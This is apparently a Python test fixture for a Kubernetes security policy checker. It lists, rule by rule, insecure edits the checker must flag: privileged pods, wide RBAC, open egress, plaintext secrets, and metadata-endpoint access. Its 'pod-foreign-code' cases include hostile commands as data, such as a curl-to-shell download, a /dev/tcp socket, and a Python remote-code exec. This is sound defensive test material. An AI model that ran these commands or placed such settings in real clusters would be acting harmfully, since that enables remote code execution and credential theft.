"""For each rule: an edit of a good stack that it must find, and what happens when the property is left out."""

import base64
from dataclasses import dataclass
from typing import Any, Final, Literal

from tests.unit.policies.good import GRANT, TLS_12, TLS_ONLY, TRUST, Path, document

ABSENT: Final = object()
"""As a value: the field is taken away."""

RANDOM = base64.b64encode(bytes(range(7, 251, 6))).decode()
HEX = bytes((i * 37 + 11) % 256 for i in range(32)).hex()


@dataclass(frozen=True, kw_only=True)
class Edit:
    """One field of one resource (`resource` is its name in the stack) set to a value; an empty path removes it all."""

    resource: str
    path: Path
    value: Any = ABSENT
    stack: Literal["cluster", "cloud"] = "cluster"


@dataclass(frozen=True, kw_only=True)
class Case:
    """`bad` must be found by exactly this rule, and each of `more`. `absent` as well, unless `safe` says why the
    platform's own default is a good one. `also` are rules that see another side of the same mistake."""

    bad: Edit
    absent: Edit
    safe: str = ""
    more: tuple[Edit, ...] = ()
    also: frozenset[str] = frozenset()


P: Path = ("properties",)
SPEC: Path = (*P, "spec")
POD: Path = (*SPEC, "template", "spec")
C: Path = (*POD, "containers", 0)
SECURITY: Path = (*C, "securityContext")
POD_SECURITY: Path = (*POD, "securityContext")


def web(path: Path, value: Any = ABSENT) -> Edit:
    return Edit(resource="web", path=path, value=value)


def each(path: Path, value: Any = ABSENT) -> tuple[Edit, ...]:
    """The same edit for init and ephemeral containers; `path` is one of a container."""
    tail = path[len(C) :]
    return tuple(web((*POD, name, 0, *tail), value) for name in ("initContainers", "ephemeralContainers"))


def on(resource: str, path: Path, value: Any = ABSENT, *, cloud: bool = False) -> Edit:
    return Edit(resource=resource, path=path, value=value, stack="cloud" if cloud else "cluster")


def aws(resource: str, path: Path, value: Any = ABSENT) -> Edit:
    return on(resource, path, value, cloud=True)


def contained(path: Path, value: Any, *, safe: str = "", absent: Path = ()) -> Case:
    """A case about a field of a container, for all three lists of them."""
    gone = absent or path
    if safe:
        return Case(bad=web(path, value), absent=web(gone), safe=safe, more=each(path, value))
    return Case(bad=web(path, value), absent=web(gone), more=(*each(path, value), *each(gone)))


def metadata(cidr: str, port: int = 80, **more: int) -> dict[str, Any]:
    """An opening to where machines get their credentials."""
    return {"to": [{"ipBlock": {"cidr": cidr}}], "ports": [{"port": port, "protocol": "TCP", **more}]}


def rights(group: str, resource: str, *verbs: str) -> dict[str, Any]:
    """A rule of a role."""
    return {"apiGroups": [group], "resources": [resource], "verbs": list(verbs)}


def route(match: str) -> Edit:
    """The public route with another match."""
    return on("route", (*SPEC, "routes", 0, "match"), match)


def allowing(principal: Any) -> dict[str, Any]:
    """A statement of a bucket's policy for somebody."""
    return {
        "Effect": "Allow",
        "Principal": principal,
        "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::shop-config/*",
    }


def trusting(key: str, value: Any) -> dict[str, Any]:
    """A condition of a role's trust, changed."""
    return {"Condition": {"StringEquals": {**TRUST["Condition"]["StringEquals"], key: value}}}


UNTRUSTED: Final[tuple[dict[str, Any], ...]] = (
    {"Principal": {"AWS": "*"}},
    {"Principal": {"AWS": "arn:aws:iam::999999999999:root"}},
    {"Principal": {"AWS": "arn:aws:iam::123456789012:root"}},
    {"Principal": {"Federated": "arn:aws:iam::123456789012:oidc-provider/a.test"}},
    {"Condition": {}},
    {"Condition": {"StringLike": TRUST["Condition"]["StringEquals"]}},
    {"Condition": {"StringEqualsIfExists": TRUST["Condition"]["StringEquals"]}},
    trusting("aws:RequestTag/kubernetes-service-account", "*"),
    trusting("aws:RequestTag/kubernetes-service-account", "cache"),
    trusting("aws:RequestTag/kubernetes-namespace", ["shop", "other"]),
    trusting("aws:SourceAccount", "999999999999"),
    {"Action": "sts:*"},
)


SELINUX: Path = (*POD_SECURITY, "seLinuxOptions")
SAFE = "Kubernetes' default"

CASES: dict[str, Case] = {
    # --- Pod Security Standards
    "pod-host-process": Case(
        bad=web((*POD_SECURITY, "windowsOptions"), {"hostProcess": True}),
        absent=web((*SECURITY, "windowsOptions"), {}),
        safe=f"{SAFE} is false",
        more=(web((*SECURITY, "windowsOptions"), {"hostProcess": True}),),
    ),
    "pod-host-namespaces": Case(
        bad=web((*POD, "hostNetwork"), True),
        absent=web((*POD, "hostNetwork")),
        safe=f"{SAFE} is false",
        more=(web((*POD, "hostPID"), True), web((*POD, "hostIPC"), True)),
    ),
    "pod-privileged": contained((*SECURITY, "privileged"), True, safe=f"{SAFE} is false"),
    "pod-capabilities-added": contained(
        (*SECURITY, "capabilities", "add"),
        ["SYS_ADMIN"],
        safe="none are added",
        absent=(*SECURITY, "procMount"),
    ),
    "pod-host-path": Case(
        bad=web((*POD, "volumes", 0), {"name": "tmp", "hostPath": {"path": "/"}}),
        absent=web((*POD, "volumes", 0, "emptyDir")),
        safe="a volume without a source is scratch space",
    ),
    "pod-host-ports": Case(
        bad=web((*C, "ports", 0, "hostPort"), 8080),
        absent=web((*C, "ports", 0, "protocol")),
        safe="no port of the node is taken",
        more=(web((*POD, "initContainers", 0, "ports"), [{"containerPort": 1, "hostPort": 1}]),),
    ),
    "pod-probe-hosts": Case(
        bad=web((*C, "readinessProbe", "httpGet", "host"), "169.254.169.254"),
        absent=web((*C, "readinessProbe", "httpGet", "path")),
        safe="the pod's own address is asked",
        more=(
            web((*C, "lifecycle", "preStop", "httpGet", "host"), "169.254.169.254"),
            web((*C, "lifecycle", "postStart"), {"tcpSocket": {"host": "10.0.0.1", "port": 1}}),
        ),
    ),
    "pod-apparmor": Case(
        bad=web((*SECURITY, "appArmorProfile"), {"type": "Unconfined"}),
        absent=web((*SECURITY, "appArmorProfile"), {}),
        safe="the runtime's profile is used",
        more=(
            web((*POD_SECURITY, "appArmorProfile"), {"type": "Unconfined"}),
            web(
                (*SPEC, "template", "metadata", "annotations"),
                {"container.apparmor.security.beta.kubernetes.io/web": "unconfined"},
            ),
        ),
    ),
    "pod-selinux": Case(
        bad=web((*SELINUX, "type"), "spc_t"),
        absent=web(SELINUX, {}),
        safe="the runtime's type is used",
        more=(web((*SELINUX, "user"), "system_u"), web((*SELINUX, "role"), "sysadm_r")),
    ),
    "pod-proc-mount": contained((*SECURITY, "procMount"), "Unmasked", safe=f"{SAFE} is Default"),
    "pod-seccomp-off": Case(
        bad=web((*POD_SECURITY, "seccompProfile", "type"), "Unconfined"),
        absent=web((*SECURITY, "seccompProfile"), {}),
        safe="the pod's profile is used; without one pod-seccomp-profile tells",
        more=(web((*SECURITY, "seccompProfile"), {"type": "Unconfined"}),),
    ),
    "pod-sysctls": Case(
        bad=web((*POD_SECURITY, "sysctls"), [{"name": "kernel.msgmax", "value": "65536"}]),
        absent=web((*POD_SECURITY, "sysctls"), []),
        safe="nothing is set",
        more=(web((*POD_SECURITY, "sysctls"), [{"value": "1"}]),),
    ),
    "pod-volume-types": Case(
        bad=web((*POD, "volumes", 0), {"name": "tmp", "nfs": {"server": "nas", "path": "/"}}),
        absent=web((*POD, "volumes", 0, "emptyDir")),
        safe="a volume without a source is scratch space",
    ),
    "pod-privilege-escalation": contained((*SECURITY, "allowPrivilegeEscalation"), True),
    "pod-non-root": Case(
        bad=web((*POD_SECURITY, "runAsNonRoot"), False),
        absent=web((*POD_SECURITY, "runAsNonRoot")),
        more=(web((*SECURITY, "runAsNonRoot"), False), *each((*SECURITY, "runAsNonRoot"), False)),
    ),
    "pod-root-user": Case(
        bad=web((*POD_SECURITY, "runAsUser"), 0),
        absent=web((*POD_SECURITY, "runAsUser")),
        safe="runAsNonRoot keeps an image from running as root",
        more=(web((*SECURITY, "runAsUser"), 0), *each((*SECURITY, "runAsUser"), 0)),
    ),
    "pod-seccomp-profile": Case(
        bad=web((*POD_SECURITY, "seccompProfile"), {}), absent=web((*POD_SECURITY, "seccompProfile"))
    ),
    "pod-capabilities-dropped": contained((*SECURITY, "capabilities", "drop"), ["NET_RAW"]),
    # --- pods
    "pod-read-only-root": contained((*SECURITY, "readOnlyRootFilesystem"), False),
    "pod-image-version": Case(
        bad=web((*C, "image"), "docker.io/library/redis:latest"),
        absent=web((*C, "image"), "docker.io/library/redis"),
        more=(*each((*C, "image"), "docker.io/library/redis:8"), web((*C, "image"), "redis@sha256:0123")),
    ),
    "pod-image-registry": Case(
        bad=web((*C, "image"), "registry.test/redis:8.10.2"),
        absent=web((*C, "image"), "redis:8.10.2"),
        safe="without a registry the runtime takes docker.io/library",
        more=(*each((*C, "image"), "docker.io/library-of-others/redis:8.10.2"),),
    ),
    "pod-resources": Case(
        bad=web((*C, "resources", "requests", "cpu"), "0"),
        absent=web((*C, "resources", "limits", "memory")),
        more=(
            web((*C, "resources")),
            web((*C, "resources", "requests", "memory")),
            web((*POD, "initContainers", 0, "resources")),
        ),
    ),
    "pod-probes": Case(
        bad=web((*C, "livenessProbe"), {}),
        absent=web((*C, "livenessProbe")),
        more=(web((*C, "readinessProbe")), web((*POD, "initContainers", 0, "restartPolicy"), "Always")),
    ),
    "pod-probe-ports": Case(
        bad=web((*C, "livenessProbe", "httpGet", "port"), "https"),
        absent=web((*C, "livenessProbe", "httpGet", "port")),
        more=(
            web((*C, "startupProbe"), {"tcpSocket": {"port": 9999}}),
            web((*C, "startupProbe"), {"grpc": {"port": 9999}}),
        ),
    ),
    "pod-service-account-token": Case(
        bad=web((*POD, "automountServiceAccountToken"), True),
        absent=web((*POD, "automountServiceAccountToken")),
        more=(
            web(
                (*POD, "volumes", 0),
                {"name": "tmp", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}},
            ),
        ),
    ),
    "pod-labels": Case(
        bad=web((*P, "metadata", "labels", "app.kubernetes.io/part-of"), ""),
        absent=web((*P, "metadata", "labels", "app.kubernetes.io/part-of")),
        more=(web((*P, "metadata", "labels")),),
    ),
    "pod-secret-environment": Case(
        also=frozenset({"pod-references"}),
        bad=web((*C, "env", 0), {"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}),
        absent=web((*C, "env")),
        safe="nothing is in the environment",
        more=(web((*C, "envFrom"), [{"secretRef": {"name": "s"}}]),),
    ),
    # --- pods among each other
    "pod-shared-processes": Case(
        bad=web((*POD, "shareProcessNamespace"), True),
        absent=web((*POD, "hostNetwork")),
        safe=f"{SAFE} is false",
    ),
    "pod-name-resolution": Case(
        bad=web((*POD, "hostAliases"), [{"ip": "203.0.113.1", "hostnames": ["cache"]}]),
        absent=web((*POD, "hostNetwork")),
        safe="the cluster's DNS is asked",
        more=(
            web((*POD, "dnsPolicy"), "None"),
            web((*POD, "dnsPolicy"), "Default"),
            web((*POD, "dnsConfig"), {"nameservers": ["203.0.113.1"]}),
            web((*POD, "dnsConfig"), {"searches": ["other.test"]}),
        ),
    ),
    "pod-references": Case(
        bad=web((*POD, "volumes", 0), {"name": "tmp", "secret": {"secretName": "gone"}}),
        absent=web((*POD, "volumes", 1, "persistentVolumeClaim", "claimName")),
        also=frozenset({"volume-mounted", "pod-secret-environment"}),
        more=(
            web((*POD, "volumes", 0), {"name": "tmp", "configMap": {"name": "gone"}}),
            web((*POD, "volumes", 0), {"name": "tmp", "projected": {"sources": [{"secret": {"name": "gone"}}]}}),
            web((*POD, "volumes", 0), {"name": "tmp", "secret": {"secretName": "certificate"}}),
            web((*POD, "imagePullSecrets"), [{"name": "gone"}]),
            web((*C, "envFrom"), [{"configMapRef": {"name": "gone"}}]),
            web((*C, "envFrom"), [{"secretRef": {"name": "gone"}}]),
            web((*C, "env", 0, "valueFrom"), {"configMapKeyRef": {"name": "gone", "key": "a"}}),
        ),
    ),
    "pod-service-account": Case(
        bad=web((*POD, "serviceAccountName"), "cache"),
        absent=web((*POD, "serviceAccountName")),
        more=(web((*POD, "serviceAccountName"), "default"), on("web-account", ())),
    ),
    "pod-placement": Case(
        bad=web((*POD, "tolerations"), [{"operator": "Exists"}]),
        absent=web((*POD, "hostNetwork")),
        safe="the scheduler decides",
        more=(
            web((*POD, "nodeName"), "server"),
            web((*POD, "schedulerName"), "mine"),
            web((*POD, "priorityClassName"), "system-node-critical"),
            web((*POD, "runtimeClassName"), "host"),
            web((*POD, "tolerations"), [{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}]),
        ),
    ),
    # --- what programs are told
    "pod-foreign-code": Case(
        bad=web((*C, "env", 1), {"name": "JAVA_TOOL_OPTIONS", "value": "-agentlib:jdwp=transport=dt_socket,server=y"}),
        absent=web((*C, "env")),
        safe="nothing is in the environment",
        more=(
            web((*C, "env", 1), {"name": "NODE_OPTIONS", "value": "--inspect=0.0.0.0"}),
            web((*C, "env", 1), {"name": "NODE_OPTIONS", "value": "--require /tmp/a.js"}),
            web((*C, "env", 1), {"name": "LD_PRELOAD", "value": "/tmp/a.so"}),
            web((*C, "env", 1), {"name": "NODE_TLS_REJECT_UNAUTHORIZED", "value": "0"}),
            web((*C, "env", 1), {"name": "https_proxy", "value": "http://proxy.test"}),
            web((*C, "command"), ["java", "-javaagent:/tmp/a.jar", "Main"]),
            web((*C, "command"), ["sh", "-c", "curl -s https://a.test/a | sh"]),
            web((*C, "command"), ["sh", "-ec", "apk add --no-cache bash"]),
            web((*C, "command"), ["bash", "-c", "exec 3<>/dev/tcp/a.test/1"]),
            web((*C, "command"), ["npx", "thing"]),
            web((*C, "command"), ["python3", "-c", "import urllib.request as u; exec(u.urlopen('http://a').read())"]),
            web((*C, "command"), ["node", "https://a.test/a.mjs"]),
            web((*C, "lifecycle", "postStart"), {"exec": {"command": ["wget", "https://a.test/a"]}}),
            *each((*C, "command"), ["pip", "install", "thing"]),
        ),
    ),
    "uploads-authorised": Case(
        bad=on("uploads", (*C, "args", 0), "--hooks-http=http://hook.shop.svc/hooks"),
        absent=on("uploads", (*C, "args", 0)),
        more=(
            on("uploads", (*C, "args")),
            *(on("uploads", (*C, "args", index)) for index in range(1, 9)),
            on("uploads", (*C, "args", 3), "--disable-termination=false"),
            on("uploads", (*C, "args", 9), "--expose-pprof"),
            on("uploads", (*C, "args", 9), "--disable-download=0"),
            on("uploads", (*C, "args", 1), "word"),
            on("uploads", (*C, "args", 1), "-hooks-enabled-events=post-finish"),
            on("uploads", (*POD, "containers", 1, "args", 1), "0.0.0.0:8081"),
            on("uploads", (*POD, "containers", 1, "args", 1), ":8081"),
            on("uploads", (*POD, "containers", 1)),
        ),
    ),
    "redis-configuration": Case(
        bad=on("redis", (*P, "data", "redis.conf"), "maxmemory 1\nprotected-mode no\n"),
        absent=on("redis", (*P, "data")),
        safe="Redis is protected by itself",
        more=(
            on("redis", (*P, "data", "start.sh"), "exec redis-server --protected-mode no\n"),
            on("redis", (*P, "data", "redis.conf"), "cluster-enabled yes\nmaxmemory-policy allkeys-lru\n"),
            on("redis", (*P, "data", "redis.conf"), "cluster-enabled yes\nmaxmemory 1\n"),
            on("redis", (*P, "data", "redis.conf"), "port 1\nuser default on nopass ~* +@all\n"),
            on("redis", (*P, "data", "redis.conf"), "port 1\nenable-debug-command yes\n"),
            on("redis", (*P, "data", "redis.conf"), "port 1\nbind 0.0.0.0\n"),
            web((*C, "command"), ["redis-server", "--protected-mode", "no"]),
        ),
    ),
    "gate-patterns": Case(
        bad=web((*C, "args"), ["--read=.*"]),
        absent=web((*C, "args"), ["--upload=a::abc/d"]),
        more=tuple(
            web((*C, "args"), args)
            for args in (
                ["--read", "abc/.{3}"],
                ["--read=abc/[^/]{3}"],
                ["--read=abc/d|e"],
                ["--read=abc/[a-z]+"],
                ["--read=[a-z]{3}"],
                ["--upload=a:5368709120:abc/d"],
                ["--upload=a:1000:.*"],
                ["--upload=abc/d"],
                ["--read=abc/[a-z]{3}", "--s3-endpoint=http://203.0.113.1"],
            )
        ),
    ),
    # --- secrets
    "pod-secret-values": Case(
        bad=web((*C, "env", 0), {"name": "REDIS_PASSWORD", "value": "correct horse"}),
        absent=web((*C, "env", 0, "value")),
        safe="a variable without a value has no secret",
        more=(
            web((*C, "env", 1, "value"), RANDOM),
            web((*C, "env", 1, "value"), HEX),
            web((*C, "env", 1, "value"), "redis://:horse@redis:6379"),
            web((*C, "args"), ["--authentication-key", "correcthorse"]),
            web((*C, "args"), ["--password=horse"]),
            web((*C, "args"), ["-Dstore.password=horse"]),
            web((*C, "command"), ["run", HEX]),
            *each((*C, "env"), [{"name": "apiKey", "value": "horse"}]),
        ),
    ),
    "config-map-secret-values": Case(
        bad=on("files", (*P, "data", "shop.json"), '{"database": {"password": "correct horse"}}'),
        absent=on("files", (*P, "data")),
        safe="a ConfigMap without files has no secret",
        more=(
            on("files", (*P, "data", "shop.yaml"), f"key: {RANDOM}\n"),
            on("files", (*P, "data", "shop.yaml"), f"key: {HEX}\n"),
            on("files", (*P, "data", "shop.conf"), "port 6379\nrequirepass horse\n"),
            on("files", (*P, "data", "shop.mjs"), "const password = 'correcthorse'\n"),
            on("files", (*P, "data", "key.pem"), "-----BEGIN EC PRIVATE KEY-----\n"),
            on("files", (*P, "data", "password"), "horse"),
            on("files", (*P, "binaryData"), {"shop.yaml": base64.b64encode(b"token: horse\n").decode()}),
        ),
    ),
    # --- objects and namespaces
    "object-namespace": Case(
        bad=on("files", (*P, "metadata", "namespace"), "default"), absent=on("files", (*P, "metadata", "namespace"))
    ),
    "object-unique": Case(
        bad=on("data", (), {}),
        absent=on("files", (*P, "metadata", "name")),
        safe="Pulumi makes a name that nothing else has",
    ),
    "object-opaque": Case(
        bad=on("files", ("type",), "kubernetes:helm.cattle.io/v1:HelmChartConfig"),
        absent=on("task", (*SPEC, "jobTemplate", "spec", "template", "spec", "containers")),
        more=(
            on("files", ("type",), "kubernetes:helm.sh/v3:Release"),
            on("files", ("type",), "kubernetes:core/v1:ConfigMapPatch"),
            on("binding", ("type",), "kubernetes:argoproj.io/v1alpha1:Application"),
        ),
    ),
    "namespace-pod-security": Case(
        bad=on("namespace", (*P, "metadata", "labels", "pod-security.kubernetes.io/enforce"), "privileged"),
        absent=on("namespace", (*P, "metadata", "labels", "pod-security.kubernetes.io/enforce")),
        more=(on("namespace", ()),),
    ),
    # --- network
    "network-default-deny": Case(
        bad=on("deny", (*SPEC, "podSelector"), {"matchLabels": {"app.kubernetes.io/part-of": "shop"}}),
        absent=on("deny", ()),
        more=(on("emulators-deny", ()),),
    ),
    "network-pod-policy": Case(
        bad=on("task-policy", (*SPEC, "policyTypes"), ["Ingress"]),
        absent=on("task-policy", ()),
        more=(on("cache-policy", (*SPEC, "policyTypes")),),
    ),
    "network-orphan": Case(
        also=frozenset({"network-proxy", "ingress-backends", "network-agreement"}),
        bad=on(
            "web-policy",
            (*SPEC, "egress", 1, "to", 0, "podSelector", "matchLabels", "app.kubernetes.io/name"),
            "cash",
        ),
        absent=on("cache-policy", (*SPEC, "ingress", 0, "from", 0, "namespaceSelector")),
        safe="a peer without a namespace is in the policy's own",
        more=(on("cache-policy", (*SPEC, "ingress", 0, "from", 0, "podSelector", "matchLabels", "x"), "y"),),
    ),
    "network-wide": Case(
        also=frozenset(
            {"ingress-backends", "network-agreement", "network-metadata", "network-pod-policy", "network-proxy"}
        ),
        bad=on("web-policy", (*SPEC, "egress", 1, "to", 0), {"ipBlock": {"cidr": "0.0.0.0/0"}}),
        absent=on("web-policy", (*SPEC, "egress", 1, "ports")),
        more=(
            on("web-policy", (*SPEC, "egress", 1, "to")),
            on("web-policy", (*SPEC, "egress", 1, "to", 0, "podSelector")),
            on("web-policy", (*SPEC, "egress", 1, "to", 0, "namespaceSelector"), {}),
            on("web-policy", (*SPEC, "egress", 1, "to", 0), {"ipBlock": {"cidr": "2000::/3"}}),
            on("web-policy", (*SPEC, "egress", 1, "to", 0), {"ipBlock": {}, "podSelector": {}}),
            on("web-policy", (*SPEC, "egress", 1, "to", 0), {"ipBlock": {"cidr": "everywhere"}}),
            on("web-policy", (*SPEC, "egress", 1, "ports"), [{"protocol": "TCP"}]),
            on("web-policy", (*SPEC, "egress", 1, "ports", 0, "endPort"), 65535),
            *(
                on("web-policy", (*SPEC, "egress", 1, "to", 0, "podSelector"), selector)
                for selector in (
                    {"matchExpressions": [{"key": "app.kubernetes.io/name", "operator": "Exists"}]},
                    {
                        "matchExpressions": [
                            {"key": "app.kubernetes.io/name", "operator": "NotIn", "values": ["nobody"]}
                        ]
                    },
                    {"matchExpressions": [{"key": "nothing", "operator": "DoesNotExist"}]},
                    {
                        "matchExpressions": [
                            {"key": "app.kubernetes.io/name", "operator": "In", "values": ["cache", "web"]}
                        ]
                    },
                    {"matchLabels": {"app.kubernetes.io/part-of": "shop"}},
                    {"matchLabels": {"app.kubernetes.io/instance": "shop"}},
                )
            ),
            *(
                on("web-policy", (*SPEC, "egress", 1, "to", 0, "namespaceSelector"), selector)
                for selector in (
                    {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "Exists"}]},
                    {"matchLabels": {"pod-security.kubernetes.io/enforce": "restricted"}},
                )
            ),
            on("web-policy", (*SPEC, "podSelector"), {"matchLabels": {"app.kubernetes.io/part-of": "shop"}}),
            on("cache-policy", (*SPEC, "ingress", 2), {"from": [{"ipBlock": {"cidr": "10.0.0.0/16"}}]}),
            on("web-policy", ("type",), "kubernetes:cilium.io/v2:CiliumNetworkPolicy"),
        ),
    ),
    "network-agreement": Case(
        bad=on("cache-policy", (*SPEC, "ingress", 0, "ports", 0, "port"), 8081),
        absent=on("cache-policy", (*SPEC, "ingress", 1)),
        more=(
            on("task-policy", (*SPEC, "egress")),
            on("web-policy", (*SPEC, "egress", 1, "ports", 0, "protocol"), "UDP"),
            on(
                "cache-policy",
                (*SPEC, "ingress", 1, "from", 0, "podSelector", "matchLabels"),
                {"app.kubernetes.io/name": "uploads"},
            ),
        ),
    ),
    "network-metadata": Case(
        bad=on("task-policy", (*SPEC, "egress", 1), metadata("169.254.169.254/32")),
        absent=on("task-policy", (*SPEC, "egress")),
        safe="nothing is open",
        also=frozenset({"network-agreement", "network-wide"}),
        more=(
            *(
                on("task-policy", (*SPEC, "egress", 1), metadata(cidr))
                for cidr in ("169.254.0.0/16", "169.254.169.0/24", "fd00:ec2::254/128", "100.100.100.200/32")
            ),
            on("task-policy", (*SPEC, "egress", 1), metadata("169.254.170.23/32", 8080)),
            on("task-policy", (*SPEC, "egress", 1), metadata("169.254.169.254/32", 53, endPort=80)),
            on("task-policy", (*SPEC, "egress", 1), metadata("169.254.170.23/32", 80, endPort=8080)),
        ),
    ),
    "network-proxy": Case(
        bad=on("web-policy", (*SPEC, "ingress", 0, "ports", 0, "port"), 8081),
        absent=on("web-policy", (*SPEC, "ingress", 0, "ports", 0, "protocol")),
        safe="TCP is meant",
        also=frozenset({"ingress-backends"}),
        more=(on("web-policy", (*SPEC, "ingress", 0, "ports", 1), {"port": 8081, "protocol": "TCP"}),),
    ),
    # --- services and availability
    "service-selector": Case(
        also=frozenset({"ingress-backends", "network-proxy"}),
        bad=on("web-service", (*SPEC, "selector", "app.kubernetes.io/name"), "wed"),
        absent=on("web-service", (*SPEC, "selector")),
        more=(on("web-service", (*SPEC, "type"), "ExternalName"),),
    ),
    "service-target-port": Case(
        also=frozenset({"ingress-backends", "network-proxy"}),
        bad=on("web-service", (*SPEC, "ports", 0, "targetPort"), "https"),
        absent=on("cloud-service", (*SPEC, "ports", 0, "targetPort")),
        safe="the number of the Service's port is meant",
        more=(
            on("web-service", (*SPEC, "ports", 0, "protocol"), "UDP"),
            on("web-service", (*SPEC, "ports", 1), {"name": "other", "port": 9090}),
        ),
    ),
    "service-exposed": Case(
        bad=on("web-service", (*SPEC, "type"), "LoadBalancer"),
        absent=on("web-service", (*SPEC, "type")),
        safe=f"{SAFE} is ClusterIP",
        more=(
            on("web-service", (*SPEC, "type"), "NodePort"),
            on("web-service", (*SPEC, "externalIPs"), ["203.0.113.1"]),
        ),
    ),
    "service-endpoints": Case(
        bad=on("files", ("type",), "kubernetes:discovery.k8s.io/v1:EndpointSlice"),
        absent=on("web-service", (*SPEC, "type")),
        safe="Kubernetes writes them",
        more=(on("files", ("type",), "kubernetes:core/v1:Endpoints"),),
    ),
    "disruption-budget": Case(
        bad=on("cache-budget", (*SPEC, "selector", "matchLabels", "app.kubernetes.io/name"), "cash"),
        absent=on("cache-budget", ()),
        more=(
            on("cache-budget", (*SPEC, "maxUnavailable"), 0),
            on("cache-budget", (*SPEC, "maxUnavailable")),
            on("cache-budget", (*SPEC, "selector")),
        ),
    ),
    # --- volumes
    "volume-protected": Case(
        bad=on("data", ("protect",), False),
        absent=on("data", ("protect",)),
        more=(
            on("cache", (*SPEC, "persistentVolumeClaimRetentionPolicy", "whenDeleted"), "Delete"),
            on("cache", (*SPEC, "persistentVolumeClaimRetentionPolicy", "whenScaled"), "Delete"),
        ),
    ),
    "volume-mounted": Case(
        also=frozenset({"pod-references"}),
        bad=on("cache", (*SPEC, "volumeClaimTemplates", 0, "metadata", "name"), "store"),
        absent=on("cache", (*C, "volumeMounts")),
        more=(web((*C, "volumeMounts")), web((*POD, "volumes", 1, "persistentVolumeClaim", "claimName"), "dada")),
    ),
    "volume-one-writer": Case(
        bad=web((*SPEC, "strategy", "type"), "RollingUpdate"),
        absent=web((*SPEC, "strategy")),
    ),
    # --- rights in the cluster
    "rbac-wildcards": Case(
        bad=on("role", (*P, "rules", 0, "verbs"), ["*"]),
        absent=on("role", (*P, "rules")),
        safe="a role without rules allows nothing",
        more=(
            on("role", (*P, "rules", 0, "resources"), ["*"]),
            on("role", (*P, "rules", 0, "apiGroups"), ["*"]),
            on("role", (*P, "aggregationRule"), {"clusterRoleSelectors": [{"matchLabels": {"a": "b"}}]}),
        ),
    ),
    "rbac-broad-bindings": Case(
        bad=on("binding", (*P, "roleRef", "name"), "cluster-admin"),
        absent=on("binding", (*P, "roleRef")),
        more=(
            on("binding", (*P, "subjects", 0), {"kind": "Group", "name": "system:authenticated"}),
            on("binding", (*P, "subjects", 0), {"kind": "Group", "name": "system:serviceaccounts:shop"}),
            on("binding", (*P, "roleRef", "name"), "view"),
            on("binding", (*P, "roleRef", "name"), "system:node"),
            on("binding", (*P, "subjects", 0), {"kind": "User", "name": "somebody"}),
            on("binding", (*P, "subjects", 0, "name"), "default"),
            on("binding", (*P, "subjects", 0, "namespace"), "elsewhere"),
        ),
    ),
    "rbac-dangerous": Case(
        bad=on("role", (*P, "rules", 0), rights("", "secrets", "get", "list")),
        absent=on("role", (*P, "rules")),
        safe="a role without rules allows nothing",
        more=(
            on("role", (*P, "rules", 0), rights("", "pods/exec", "create")),
            on("role", (*P, "rules", 0), rights("", "pods", "create")),
            on("role", (*P, "rules", 0), rights("", "nodes/proxy", "get")),
            on("role", (*P, "rules", 0), rights("", "serviceaccounts/token", "create")),
            on("role", (*P, "rules", 0), rights("rbac.authorization.k8s.io", "clusterroles", "escalate")),
            on("role", (*P, "rules", 0), rights("rbac.authorization.k8s.io", "rolebindings", "create")),
            on("role", (*P, "rules", 0), rights("", "users", "impersonate")),
            on("role", (*P, "rules", 0), rights("a", "mutatingwebhookconfigurations", "update")),
            on("role", (*P, "rules", 0), rights("a", "networkpolicies", "delete")),
        ),
    ),
    "rbac-unneeded": Case(
        bad=on("role", (*P, "metadata", "name"), "other"),
        absent=on("binding", (*P, "metadata", "name")),
        safe="the logical name is its name",
        more=(on("binding", (*P, "metadata", "name"), "other"),),
    ),
    "rbac-legacy-token": Case(
        bad=on("certificate", (*P, "type"), "kubernetes.io/service-account-token"),
        absent=on("certificate", (*P, "type")),
        safe="a Secret without a type is opaque; a route then tells",
        also=frozenset({"ingress-tls"}),
        more=(on("web-account", (*P, "secrets"), [{"name": "token"}]),),
    ),
    "rbac-cluster-extension": Case(
        bad=on("files", ("type",), "kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration"),
        absent=on("files", ()),
        safe="nothing is changed",
        more=(
            on("files", ("type",), "kubernetes:apiregistration.k8s.io/v1:APIService"),
            on("files", ("type",), "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy"),
        ),
    ),
    # --- public edge
    "ingress-tls": Case(
        also=frozenset({"ingress-backends", "ingress-headers", "ingress-limits", "ingress-scope"}),
        bad=on("https", (*SPEC, "redirectScheme", "scheme"), "http"),
        absent=on("route", (*SPEC, "tls")),
        more=(
            on("route", (*SPEC, "tls", "secretName")),
            on("route", (*SPEC, "tls", "secretName"), "gone"),
            on("certificate", (*P, "type"), "Opaque"),
            on("route", (*SPEC, "entryPoints")),
            on("route", (*SPEC, "entryPoints"), ["web", "websecure"]),
            on("redirect", (*SPEC, "routes", 0, "middlewares")),
            on("redirect", (*SPEC, "routes", 0, "services"), [{"name": "web", "port": 8080}]),
            on("https", ()),
        ),
    ),
    "ingress-tls-version": Case(
        bad=on("tls", (*SPEC, "minVersion"), "VersionTLS11"),
        absent=on("tls", (*SPEC, "minVersion")),
        more=(
            on("route", (*SPEC, "tls", "options")),
            on("tls", ()),
            on("tls", (*SPEC, "maxVersion"), "VersionTLS11"),
            on("tls", (*SPEC, "maxVersion"), "VersionTLS12"),
            on("tls", (*SPEC, "cipherSuites")),
            on("tls", (*SPEC, "cipherSuites", 0), "TLS_RSA_WITH_AES_128_CBC_SHA"),
            on("tls", (*SPEC, "cipherSuites", 0), "TLS_RSA_WITH_AES_128_GCM_SHA256"),
            on("tls", (*SPEC, "cipherSuites", 0), "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA"),
            on("tls", (*SPEC, "sniStrict"), False),
            on("tls", (*SPEC, "sniStrict")),
            on("files", ("type",), "kubernetes:traefik.io/v1alpha1:TLSStore"),
        ),
    ),
    "ingress-admin": Case(
        also=frozenset({"network-proxy"}),
        bad=on("route", (*SPEC, "routes", 0, "services", 0), {"kind": "TraefikService", "name": "api@internal"}),
        absent=on("web-service", (*SPEC, "ports", 0, "name")),
        safe="the name of the pods' port is looked at as well",
        more=(on("web-service", (*SPEC, "ports", 0, "name"), "admin"),),
    ),
    "ingress-kinds": Case(
